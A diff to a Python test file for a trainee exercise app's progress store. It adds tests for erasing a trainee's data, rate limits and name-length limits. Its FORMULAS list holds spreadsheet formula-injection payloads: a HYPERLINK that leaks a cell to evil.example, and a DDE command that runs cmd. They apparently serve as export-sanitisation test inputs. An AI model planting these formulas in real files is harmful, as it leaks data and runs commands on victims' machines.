@@ -11,8 +11,10 @@ import sys
 
 import pytest
 
+from exercises import progress
 from exercises.classview import class_rows, rows_csv
 from exercises.progress import Attempt, ProgressStore, ProgressStoreError, read_attempts
+from itbcore.errors import InputError
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
             "\tleading tab", "\rleading CR")
@@ -65,7 +67,7 @@ def _class_view(root, trainees, tmp_path, timeout=60):
 
 
 def _trainee_file(root, name, n=1):
-    store = ProgressStore(root / name / "itb" / "progress.sqlite")
+    store = ProgressStore(root / name / "itb" / "progress.sqlite", per_minute=None)
     for i in range(n):
         store.add(name, "dilution", i, "diluent", "glucose", False, "glucose")
     return store.path
@@ -145,3 +147,88 @@ def test_read_attempts_refuses_a_file_not_owned_by_its_trainee_and_bounds_query_
         read_attempts(path, owner=os.getuid() + 1)
     with pytest.raises(ProgressStoreError, match="took longer than"):
         read_attempts(path, timeout=0.0)  # the progress handler interrupts the query past its deadline
+
+
+# -- item 15: the progress store ------------------------------------------------------------------------------
+SECRET = "ANA-ONLY-ANSWER-7f3c"
+
+
+def _erase(store, trainee):
+    """The store's erasure; before it existed, the only way was to delete the rows in the database."""
+    if hasattr(store, "erase"):
+        return store.erase(trainee)
+    conn = sqlite3.connect(store.path)
+    conn.execute("DELETE FROM attempts WHERE trainee = ?", (trainee,))
+    conn.commit()
+    conn.close()
+
+
+def _bytes_on_disk(folder):
+    return b"".join(p.read_bytes() for p in folder.iterdir() if p.is_file())
+
+
+def test_erased_trainees_rows_come_back_at_the_next_open_by_journal_replay(tmp_path):
+    path = tmp_path / "p.sqlite"
+    store = ProgressStore(path)
+    for i in range(25):  # past the first backup
+        store.add("ana", "dilution", i, "diluent", SECRET, False, "glucose")
+        store.add("bob", "dilution", i, "diluent", "NaCl 0.9 %", True)
+    _erase(store, "ana")
+    assert ProgressStore(path).attempts("ana") == []  # reopened: the journal is replayed
+    assert len(ProgressStore(path).attempts("bob")) == 25
+    path.write_bytes(b"garbage, not a database" * 100)  # recovery: backup + journal merged
+    recovered = ProgressStore(path)
+    assert recovered.recovered_from is not None
+    assert recovered.attempts("ana") == [] and len(recovered.attempts("bob")) == 25
+    path.unlink()  # the database gone: everything comes from the journal and the backup
+    assert ProgressStore(path).attempts("ana") == []
+    assert SECRET.encode() not in _bytes_on_disk(tmp_path)  # erased for real: no file keeps the answer
+    later = ProgressStore(path).add("ana", "dilution", 99, "diluent", "after", True)  # a new start is kept
+    assert ProgressStore(path).attempts("ana") == [later]
+
+
+def test_erasure_honours_a_tombstone_against_an_old_copy_of_the_journal(tmp_path):
+    path = tmp_path / "p.sqlite"
+    store = ProgressStore(path)
+    store.add("ana", "dilution", 1, "diluent", SECRET, False)
+    old_journal = store.journal.read_bytes()
+    store.erase("ana")
+    with open(store.journal, "ab") as fh:  # a stale copy of an ana line appended again (a restore, a race)
+        fh.write(old_journal)
+    assert ProgressStore(path).attempts("ana") == []
+
+
+def test_200_attempts_in_10_s_were_accepted_rate_limit_per_trainee_per_minute(tmp_path):
+    store = ProgressStore(tmp_path / "p.sqlite")
+    saved, refused = 0, None
+    for i in range(200):
+        try:
+            store.add("ana", "dilution", i, "diluent", "glucose", False)
+            saved += 1
+        except InputError as exc:
+            refused = exc
+            break
+    assert refused is not None and "in the last minute" in str(refused)
+    assert saved == getattr(progress, "MAX_ATTEMPTS_PER_MINUTE", 200) < 200
+    store.add("bob", "dilution", 1, "diluent", "glucose", False)  # another trainee is not held up
+
+
+def test_total_attempts_per_trainee_are_bounded(tmp_path):
+    store = ProgressStore(tmp_path / "p.sqlite", per_minute=None, per_trainee=30)
+    for i in range(30):
+        store.add("ana", "dilution", i, "diluent", "glucose", False)
+    with pytest.raises(InputError, match="the most the store keeps"):
+        store.add("ana", "dilution", 31, "diluent", "glucose", False)
+
+
+def test_names_over_200_characters_accepted_then_lost_at_recovery_are_refused(tmp_path):
+    path = tmp_path / "p.sqlite"
+    store = ProgressStore(path)
+    long_name = "a" * 201
+    with pytest.raises(InputError, match="at most 200 characters"):
+        store.add(long_name, "dilution", 1, "diluent", "glucose", False)
+        path.write_bytes(b"garbage")  # (old code) what was accepted is lost at recovery
+        assert ProgressStore(path).attempts(long_name)
+    store.add("b" * 200, "dilution", 1, "diluent", "glucose", False)  # the maximum itself is kept
+    path.write_bytes(b"garbage")
+    assert len(ProgressStore(path).attempts("b" * 200)) == 1
